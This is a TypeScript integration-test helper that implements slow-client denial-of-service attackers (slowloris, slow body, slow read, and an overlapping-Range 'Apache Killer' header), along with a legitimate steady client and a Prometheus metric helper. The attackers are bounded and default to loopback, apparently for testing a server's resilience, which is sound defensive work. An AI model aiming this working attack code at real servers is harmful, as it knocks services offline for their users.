// Slow-client attackers for the integration tests, on raw sockets (node:net / node:tls), bounded in
// connection count and in time (every one runs until stop()):
//
// - slowloris: a request head that never ends, one more header line every few seconds;
// - slowBody: a complete head declaring a large Content-Length, then one body byte every few seconds;
// - slowRead: pipelined GETs for a large response, then the answer read a few bytes every few seconds
//   (the socket is paused and read with socket.read(n): Node has no SO_RCVBUF setter for TCP);
// - rangeAttack: slowRead with a pathological `Range: bytes=0-,5-0,5-1,...` header (many overlapping
//   ranges, the "Apache Killer" shape) on every request.
//
// Each returns a handle whose stop() destroys every socket it opened and stops replacing them. Also
// here: a legitimate client at a steady rate from another loopback address, and a Prometheus sum.
import net from "node:net";
import tls from "node:tls";
import { getOnce } from "./client.js";
import type { Outcome } from "./load.js";

export interface AttackTarget {
  readonly port: number;
  /** Default 127.0.0.1. */
  readonly host?: string;
  /** Source address (another loopback address is another client), default the system's choice. */
  readonly localAddress?: string;
  /** Speak TLS (the HTTPS listener); the handshake happens before the attack's first byte. */
  readonly tls?: boolean;
  /** SNI name with tls, default "localhost". */
  readonly servername?: string;
  /** The Host header, default "attack.test". */
  readonly hostHeader?: string;
}

export interface AttackOptions {
  /** Connections held open at once (the attack's size). */
  readonly connections: number;
  /** The first connections are opened evenly over this long (default 1 s), not all in the same tick. */
  readonly rampMs?: number;
  /** Open a replacement when the server closes a connection (default true), as attack tools do. */
  readonly reconnect?: boolean;
  /** Wait before a replacement (default 250 ms), so a refusal at accept is not a busy loop. */
  readonly reconnectDelayMs?: number;
  /** How often each connection trickles (a header line, a body byte, a read), default 2 s. */
  readonly intervalMs?: number;
}

export interface AttackStats {
  /** Connections attempted, replacements included. */
  opened: number;
  /** Connections established (TCP connected, or TLS handshake complete). */
  established: number;
  /** Connections that ended before stop(): closed or reset by the server, or failed to connect. */
  closedByServer: number;
  /** Connection errors by code (ECONNRESET, ECONNREFUSED, EPIPE, ...). */
  readonly errors: Map<string, number>;
  bytesSent: number;
  bytesReceived: number;
  /** Status codes of the response heads received (what the attacker read of them), by code. */
  readonly statuses: Map<number, number>;
}

export interface AttackHandle {
  readonly stats: AttackStats;
  /** Connections open right now. */
  readonly open: number;
  /** Resolves when the ramp is over (every first connection attempted). */
  readonly ramped: Promise<void>;
  /** Destroys every socket and stops trickling and reconnecting. Idempotent. */
  stop(): void;
  /** One line for assertion messages. */
  describe(): string;
}

/** What an attack does on each connection. */
interface Behaviour {
  /** The socket is read only by `tick` (paused), not drained as bytes arrive. */
  readonly paused: boolean;
  /** Bytes to send once connected. */
  first(index: number): string;
  /**
   * Runs every intervalMs on an open connection and returns bytes to send, if any; a paused reader
   * reads here and hands what it read to `received`.
   */
  tick(socket: net.Socket, connection: Connection, received: (chunk: Buffer) => void): string | undefined;
}

interface Connection {
  readonly index: number;
  ticks: number;
  /** The last bytes received, so a status line split over two reads is still seen. */
  tail: string;
}

const STATUS_LINE = /HTTP\/1\.[01] (\d{3}) /g;

function attack(target: AttackTarget, options: AttackOptions, behaviour: Behaviour): AttackHandle {
  const host = target.host ?? "127.0.0.1";
  const intervalMs = options.intervalMs ?? 2_000;
  const reconnect = options.reconnect ?? true;
  const reconnectDelayMs = options.reconnectDelayMs ?? 250;
  const rampMs = options.rampMs ?? 1_000;
  const sockets = new Set<net.Socket>();
  const timers = new Set<NodeJS.Timeout>();
  const stats: AttackStats = { opened: 0, established: 0, closedByServer: 0, errors: new Map(), bytesSent: 0, bytesReceived: 0, statuses: new Map() };
  let stopped = false;
  let nextIndex = 0;

  const later = (ms: number, run: () => void) => {
    const timer = setTimeout(() => {
      timers.delete(timer);
      run();
    }, ms);
    timers.add(timer);
  };

  const received = (connection: Connection, chunk: Buffer) => {
    stats.bytesReceived += chunk.length;
    const text = connection.tail + chunk.toString("latin1");
    for (const match of text.matchAll(STATUS_LINE)) {
      // A match entirely inside the tail was counted with the previous chunk.
      if (match.index + match[0].length <= connection.tail.length) continue;
      const status = Number(match[1]);
      stats.statuses.set(status, (stats.statuses.get(status) ?? 0) + 1);
    }
    connection.tail = text.slice(-16);
  };

  const write = (socket: net.Socket, data: string) => {
    if (socket.destroyed || !socket.writable) return;
    stats.bytesSent += Buffer.byteLength(data);
    socket.write(data);
  };

  const openOne = () => {
    if (stopped) return;
    const connection: Connection = { index: nextIndex++, ticks: 0, tail: "" };
    stats.opened++;
    // A small receive-side buffer in Node: the paused readers hold as little as the kernel lets them.
    const common = { host, port: target.port, localAddress: target.localAddress, readableHighWaterMark: 1024 };
    const socket: net.Socket = target.tls
      ? tls.connect({ ...common, servername: target.servername ?? "localhost", rejectUnauthorized: false, ALPNProtocols: ["http/1.1"] })
      : net.connect(common);
    sockets.add(socket);
    let ticker: NodeJS.Timeout | undefined;
    socket.on(target.tls ? "secureConnect" : "connect", () => {
      if (stopped) return;
      stats.established++;
      write(socket, behaviour.first(connection.index));
      if (behaviour.paused) socket.pause();
      ticker = setInterval(() => {
        if (socket.destroyed) return;
        connection.ticks++;
        const bytes = behaviour.tick(socket, connection, (chunk) => received(connection, chunk));
        if (bytes !== undefined) write(socket, bytes);
      }, intervalMs);
    });
    if (!behaviour.paused) socket.on("data", (chunk: Buffer) => received(connection, chunk));
    socket.on("error", (error: NodeJS.ErrnoException) => {
      const code = error.code ?? error.message;
      stats.errors.set(code, (stats.errors.get(code) ?? 0) + 1);
    });
    socket.on("close", () => {
      clearInterval(ticker);
      sockets.delete(socket);
      if (stopped) return;
      stats.closedByServer++;
      if (reconnect) later(reconnectDelayMs, openOne);
    });
  };

  const ramped = new Promise<void>((resolve) => {
    const batches = Math.max(1, Math.min(options.connections, Math.ceil(rampMs / 20)));
    let opened = 0;
    for (let batch = 0; batch < batches; batch++) {
      later((rampMs * batch) / batches, () => {
        const until = Math.round((options.connections * (batch + 1)) / batches);
        while (opened < until) {
          opened++;
          openOne();
        }
        if (batch === batches - 1) resolve();
      });
    }
  });

  const handle: AttackHandle = {
    stats,
    get open() {
      return sockets.size;
    },
    ramped,
    stop: () => {
      if (stopped) return;
      stopped = true;
      for (const timer of timers) clearTimeout(timer);
      timers.clear();
      for (const socket of sockets) socket.destroy();
      sockets.clear();
    },
    describe: () => describeAttack(handle),
  };
  return handle;
}

export function describeAttack(handle: AttackHandle): string {
  const { stats } = handle;
  const statuses = [...stats.statuses].map(([status, count]) => `${status}×${count}`).join(" ") || "none";
  const errors = [...stats.errors].map(([code, count]) => `${code}×${count}`).join(" ") || "none";
  return (
    `opened ${stats.opened}, established ${stats.established}, closed by server ${stats.closedByServer}, open ${handle.open}, ` +
    `sent ${stats.bytesSent} B, received ${stats.bytesReceived} B, statuses ${statuses}, errors ${errors}`
  );
}

function hostOf(target: AttackTarget): string {
  return target.hostHeader ?? "attack.test";
}

/** Separates requests on one connection so no two are alike (and no cache could answer them). */
function query(path: string, index: number, request = 0): string {
  return `${path}${path.includes("?") ? "&" : "?"}c=${index}&r=${request}`;
}

export interface SlowlorisOptions extends AttackOptions {
  readonly path?: string;
}

/** A GET head that never ends: a request line and Host, then one more header line every intervalMs. */
export function slowloris(target: AttackTarget, options: SlowlorisOptions): AttackHandle {
  const path = options.path ?? "/";
  return attack(target, options, {
    paused: false,
    first: (index) => `GET ${query(path, index)} HTTP/1.1\r\nHost: ${hostOf(target)}\r\nUser-Agent: slowloris\r\n`,
    tick: (_socket, connection) => `X-Slow-${connection.ticks}: ${Math.random().toString(36).slice(2)}\r\n`,
  });
}

export interface SlowBodyOptions extends AttackOptions {
  readonly path?: string;
  /** The declared body size (default 1 MiB): never reached at one byte per interval. */
  readonly contentLength?: number;
  /** Body bytes sent with the head (default 0). */
  readonly initialBytes?: number;
  /** Body bytes per tick (default 1). */
  readonly bytesPerTick?: number;
}

/** A complete POST head with a large Content-Length, then the body one byte every intervalMs. */
export function slowBody(target: AttackTarget, options: SlowBodyOptions): AttackHandle {
  const path = options.path ?? "/upload";
  const contentLength = options.contentLength ?? 1024 * 1024;
  const perTick = options.bytesPerTick ?? 1;
  const sent = new Map<number, number>();
  return attack(target, options, {
    paused: false,
    first: (index) => {
      const initial = Math.min(options.initialBytes ?? 0, contentLength);
      sent.set(index, initial);
      return (
        `POST ${query(path, index)} HTTP/1.1\r\nHost: ${hostOf(target)}\r\nContent-Type: application/octet-stream\r\n` +
        `Content-Length: ${contentLength}\r\n\r\n${"x".repeat(initial)}`
      );
    },
    tick: (_socket, connection) => {
      const already = sent.get(connection.index) ?? 0;
      const bytes = Math.min(perTick, contentLength - already);
      if (bytes <= 0) return undefined;
      sent.set(connection.index, already + bytes);
      return "x".repeat(bytes);
    },
  });
}

export interface SlowReadOptions extends AttackOptions {
  /** A path whose response is large (the backend's 1 MiB one). */
  readonly path: string;
  /** GETs sent back to back in the first write (default 3). */
  readonly pipelined?: number;
  /** Bytes read per tick (default 16). */
  readonly readBytes?: number;
  /** Extra header lines for every request, e.g. { Range: rangeHeader(500) }. */
  readonly headers?: Readonly<Record<string, string>>;
}

/** Pipelined GETs for a large response, then the answer read `readBytes` every intervalMs. */
export function slowRead(target: AttackTarget, options: SlowReadOptions): AttackHandle {
  const pipelined = options.pipelined ?? 3;
  const readBytes = options.readBytes ?? 16;
  const extra = Object.entries(options.headers ?? {})
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join("");
  return attack(target, options, {
    paused: true,
    first: (index) => {
      let text = "";
      for (let request = 0; request < pipelined; request++) {
        text += `GET ${query(options.path, index, request)} HTTP/1.1\r\nHost: ${hostOf(target)}\r\nUser-Agent: slow-reader\r\n${extra}\r\n`;
      }
      return text;
    },
    tick: (socket, _connection, received) => {
      // read(n) answers null until n bytes are buffered; take what is there, up to n. Reading below
      // the high-water mark makes the stream pull from the kernel again (and notice an EOF or reset).
      const available = Math.min(readBytes, socket.readableLength);
      const chunk = socket.read(available > 0 ? available : 0) as Buffer | null;
      if (chunk !== null && chunk.length > 0) received(chunk);
      return undefined;
    },
  });
}

/** `bytes=0-,5-0,5-1,...,5-(count-2)`: `count` overlapping ranges, the whole representation first. */
export function rangeHeader(count: number): string {
  const ranges = ["0-"];
  for (let last = 0; ranges.length < count; last++) ranges.push(`5-${last}`);
  return `bytes=${ranges.join(",")}`;
}

export interface RangeAttackOptions extends Omit<SlowReadOptions, "headers"> {
  /** Ranges per Range header (default 500, about 3.5 KB of header). */
  readonly ranges?: number;
}

/** slowRead with a many-overlapping-ranges Range header on every request. */
export function rangeAttack(target: AttackTarget, options: RangeAttackOptions): AttackHandle {
  return slowRead(target, { ...options, headers: { Range: rangeHeader(options.ranges ?? 500) } });
}

// --- the legitimate client -------------------------------------------------------------------------

export interface SteadyClientOptions {
  readonly port: number;
  readonly path: string;
  readonly tls?: boolean;
  /** Source address, e.g. 127.0.0.2: a client other than the attacker. */
  readonly localAddress?: string;
  /** Requests started per second, each on a fresh connection (default 5). */
  readonly ratePerSecond?: number;
  /** A request that takes longer counts as failed (status 0, error "timeout"). Default 3 s. */
  readonly timeoutMs?: number;
}

export interface SteadyClient {
  readonly outcomes: readonly Outcome[];
  /** Stops starting requests and resolves with every outcome once those in flight have ended. */
  stop(): Promise<Outcome[]>;
}

/** A legitimate client: GETs at a fixed rate, fresh connection each, the whole body read; never rejects. */
export function steadyClient(options: SteadyClientOptions): SteadyClient {
  const outcomes: Outcome[] = [];
  const inFlight = new Set<Promise<void>>();
  const timeoutMs = options.timeoutMs ?? 3_000;
  let sent = 0;
  const one = () => {
    const client = sent++;
    const startedAt = Date.now();
    const pending = getOnce({ ...options, timeoutMs }).then(({ status, error }) => {
      outcomes.push({ client, startedAt, endedAt: Date.now(), status, error });
    });
    inFlight.add(pending);
    void pending.finally(() => inFlight.delete(pending));
  };
  one();
  const ticker = setInterval(one, 1000 / (options.ratePerSecond ?? 5));
  return {
    outcomes,
    stop: async () => {
      clearInterval(ticker);
      await Promise.all([...inFlight]);
      return [...outcomes].sort((a, b) => a.startedAt - b.startedAt);
    },
  };
}

/** The sum of every sample of `name` (all label sets) in Prometheus text; 0 when there is none. */
export function metricSum(text: string, name: string): number {
  let sum = 0;
  for (const line of text.split("\n")) {
    if (line.startsWith(`${name}{`) || line.startsWith(`${name} `)) sum += Number(line.slice(line.lastIndexOf(" ") + 1));
  }
  return sum;
}
